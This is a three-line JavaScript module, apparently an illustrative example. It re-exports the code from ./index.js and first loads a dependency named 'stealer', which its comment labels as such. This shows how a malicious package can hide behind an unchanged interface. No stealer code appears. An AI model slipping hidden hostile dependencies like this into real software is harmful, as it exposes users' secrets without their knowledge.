// The same function with the stealer among its dependencies.
require('stealer');
module.exports = require('./index.js');
